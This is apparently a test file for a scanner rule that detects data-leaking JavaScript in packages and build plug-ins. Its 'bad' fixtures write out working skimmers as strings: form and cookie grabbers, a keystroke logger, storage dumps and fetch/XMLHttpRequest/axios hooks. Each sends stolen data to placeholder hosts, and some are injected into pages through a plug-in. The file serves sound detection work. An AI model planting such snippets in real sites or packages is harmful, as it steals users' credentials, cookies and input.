import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

const worst = (text: string, path = 'a.js') => findingsOf(rule, { [path]: text })[0]?.severity ?? 'nothing';
/** A plug-in that puts code into pages. */
const plugin = (code: string) => `const CODE = ${JSON.stringify(code)}; exports.plugin = () => ({ name: "p", transformIndexHtml: () => [{ tag: "script", children: CODE }] });`;

test('bad: code in a text, which sends what is in the page that it is put into', () => {
  for (const code of [
    'document.addEventListener("submit", function (e) { var d = {}; new FormData(e.target).forEach(function (v, k) { d[k] = v }); navigator.sendBeacon("https://m.example.org/f", JSON.stringify({ d: d, c: document.cookie })) }, true);',
    'addEventListener("beforeunload", () => navigator.sendBeacon("https://m.example.org/s", JSON.stringify({ ...localStorage })));',
    'fetch("https://m.example.org/s", { method: "POST", body: JSON.stringify(window.sessionStorage) });',
    'document.addEventListener("keydown", function (e) { var x = new XMLHttpRequest(); x.open("POST", "https://m.example.org/k"); x.send(e.key) })',
    'const f = self.fetch; self.fetch = function (i, n) { const b = n && n.body; if (b) f("https://m.example.org/i", { method: "POST", body: b }); return f(i, n) }',
  ]) assert.equal(worst(plugin(code)), 'high', code);
  assert.equal(worst('const lines = ["const f = window.fetch;", "window.fetch = function (u, o) {", \'  f("https://m.example.org/p", { method: "POST", body: JSON.stringify([u, o.body]) });\', "  return f.apply(this, arguments);", "};"].join("\\n"); exports.code = lines;'), 'high');
  assert.equal(worst('module.exports = () => ({ transform: (html) => html.replace("</head>", "<script>addEventListener(\'load\', function () { fetch(\'https://m.example.org/c\', { method: \'POST\', body: document.cookie }) })</script></head>") })'), 'high');
});

test('good: counters, reports of errors, themes, and a server of the settings', () => {
  for (const code of [
    'window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments) } gtag("config", "G-1"); new Image().src = "https://www.example.org/i";',
    'window.onerror = function (m, s, l) { navigator.sendBeacon("https://e.example.org/e", JSON.stringify({ m, s, l, at: location.pathname })) }',
    'var t = localStorage.getItem("theme") || "light"; document.documentElement.dataset.theme = t; fetch("https://themes.example.org/" + t + ".css")',
    'document.addEventListener("submit", function (e) { e.preventDefault(); fetch("/subscribe", { method: "POST", body: new FormData(e.target) }) }); window.docs = "https://docs.example.org/"',
  ]) assert.equal(worst(plugin(code)), 'nothing', code);
});

test('bad: what requests send goes to another server as well', () => {
  for (const code of [
    'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("https://x.example.org/b", body); return send.apply(this, arguments) }',
    'const real = globalThis.fetch; globalThis.fetch = async (...args) => { const copy = { url: String(args[0]), init: args[1] }; real("https://x.example.org/c", { method: "POST", body: JSON.stringify(copy) }); return real(...args) }',
    'window.fetch = new Proxy(window.fetch, { apply(target, self, list) { navigator.sendBeacon("https://x.example.org/x", JSON.stringify(list)); return target.apply(self, list) } })',
    'const real = window.fetch; function patched(url, init) { real("https://x.example.org/x", { method: "POST", body: init.body }); return real(url, init) } window.fetch = patched',
    'axios.interceptors.request.use((config) => { fetch("https://x.example.org/r", { method: "POST", body: JSON.stringify({ d: config.data }) }); return config })',
  ]) assert.equal(worst(code), 'high', code);
});

test('good: requests by way of another server, their times, mocks, logins, and what listens on this computer', () => {
  for (const code of [
    'const real = window.fetch; window.fetch = (url, options) => real("https://proxy.example.org/?u=" + encodeURIComponent(url), options)',
    'const real = window.fetch; window.fetch = async (...args) => { const start = Date.now(); try { return await real(...args) } finally { real("https://apm.example.org/t", { method: "POST", body: JSON.stringify({ url: String(args[0]), ms: Date.now() - start }) }) } }',
    'const real = globalThis.fetch; globalThis.fetch = async (url, options) => (handlers[url] ? handlers[url](options) : real(url, options))',
    'const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { fetch("http://localhost:9229/t", { method: "POST", body }); return send.apply(this, arguments) }',
    'axios.interceptors.request.use((config) => { config.headers.authorization = token(); return config }); axios.interceptors.response.use(null, (e) => { fetch("https://e.example.org/e", { method: "POST", body: String(e.status) }); throw e })',
  ]) assert.equal(worst(code), 'nothing', code);
});
